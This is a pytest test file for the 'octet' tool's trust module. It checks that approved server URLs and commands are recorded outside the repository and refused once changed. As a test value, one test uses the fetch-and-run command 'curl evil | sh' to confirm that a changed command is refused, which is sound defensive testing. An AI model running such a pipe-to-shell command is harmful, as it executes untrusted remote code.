"""A machine's approval of a repository, outside of it, with a hash of what is dangerous."""

from __future__ import annotations

import json
import os
from dataclasses import replace
from pathlib import Path

import pytest

from octet.base.errors import UsageError
from octet.project import trust
from octet.project.config import Config
from octet.project.repository import Project


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("OCTET_HOME", str(tmp_path / "octet"))
    return tmp_path / "octet"


def project_at(root: Path, **settings: str) -> Project:
    return Project("shop", root, Config("shop", **settings))  # type: ignore[arg-type]


def test_nothing_is_approved_until_a_person_says_so(tmp_path: Path) -> None:
    """Without a record neither the server nor a command may be used."""
    found = trust.check(project_at(tmp_path / "shop"))
    assert not found.approved
    assert "octet init" in found.store_refusal
    assert "octet init" in found.command_refusal("test.command")


def test_approval_lies_where_the_launcher_looks(home: Path) -> None:
    """The record is the state directory's `trust<root>/octet.json`, private, without secrets."""
    root = Path("/srv/my shop/ünï")
    path = trust.approve(project_at(root, redis_url="redis://:secret@db/0"))
    assert str(path) == f"{home}/trust{root}/octet.json"
    assert "secret" not in path.read_text()
    assert home.stat().st_mode & 0o777 == 0o700
    assert json.loads(path.read_text())["root"] == str(root)


def test_what_was_approved_may_be_used(tmp_path: Path) -> None:
    """Unchanged settings, and changes of harmless ones, refuse nothing."""
    project = project_at(tmp_path / "shop", test_command="pytest")
    trust.approve(project)
    harmless = replace(
        project, config=replace(project.config, protected=("trunk",), lock_paths="off")
    )
    for same in (project, harmless):
        found = trust.check(same)
        assert found == trust.Trust(approved=True)
        assert not found.store_refusal
        assert not found.command_refusal("test.command")


def test_a_changed_server_is_refused_and_nothing_else(tmp_path: Path) -> None:
    """A new URL closes the store only, and the message says what to do."""
    project = project_at(tmp_path / "shop")
    trust.approve(project)
    found = trust.check(replace(project, config=replace(project.config, redis_url="redis://evil")))
    assert (
        found.store_refusal
        == "octet.toml changed its server URL since you approved it: review it, then run `octet "
        "init`"
    )
    assert not found.command_refusal("test.command")


@pytest.mark.parametrize(
    ("field", "setting"), [("test_command", "test.command"), ("worktree_setup", "worktree.setup")]
)
def test_a_changed_command_is_refused_and_nothing_else(
    tmp_path: Path, field: str, setting: str
) -> None:
    """A new command leaves the store open."""
    project = project_at(tmp_path / "shop")
    trust.approve(project)
    found = trust.check(project_at(tmp_path / "shop", **{field: "curl evil | sh"}))
    assert found.changed == (setting,)
    assert not found.store_refusal
    assert "octet init" in found.command_refusal(setting)
    trust.approve(project_at(tmp_path / "shop", **{field: "curl evil | sh"}))
    assert not trust.check(project_at(tmp_path / "shop", **{field: "curl evil | sh"})).changed


@pytest.mark.parametrize(
    "content",
    ["", "null", "[]", "{", '{"version": 99}', '{"version": 1, "settings": []}', "[" * 100_000],
)
def test_a_damaged_record_approves_nothing_dangerous(tmp_path: Path, content: str) -> None:
    """The repository stays opted in, so that its guards stay on, and every dangerous setting is
    refused.
    """
    project = project_at(tmp_path / "shop")
    trust.approve(project).write_text(content)
    found = trust.check(project)
    assert found.approved
    assert found.store_refusal
    assert found.command_refusal("worktree.setup")


def test_revoking_leaves_no_trace(home: Path) -> None:
    """The record and the directories made for it go, and those of another repository stay."""
    trust.approve(project_at(Path("/srv/a/one")))
    trust.approve(project_at(Path("/srv/a/two")))
    assert trust.revoke(Path("/srv/a/one"))
    assert trust.check(project_at(Path("/srv/a/two"))).approved
    assert trust.revoke(Path("/srv/a/two"))
    assert list((home / "trust").iterdir()) == []
    assert not trust.revoke(Path("/srv/a/two"))


def test_a_record_that_cannot_be_written_is_a_usage_error(home: Path) -> None:
    """A file where a directory is needed ends in one line, not in a traceback."""
    home.mkdir(mode=0o700)
    (home / "trust").write_text("")
    with pytest.raises(UsageError, match="cannot record"):
        trust.approve(project_at(Path("/srv/shop")))
    assert not trust.revoke(Path("/srv/shop"))
    assert not trust.check(project_at(Path("/srv/shop"))).approved


@pytest.mark.skipif(os.getuid() == 0, reason="root may write anywhere")
def test_a_read_only_state_directory_is_a_usage_error(home: Path) -> None:
    """A home that cannot be written to is named."""
    home.mkdir(mode=0o500)
    with pytest.raises(UsageError):
        trust.approve(project_at(Path("/srv/shop")))
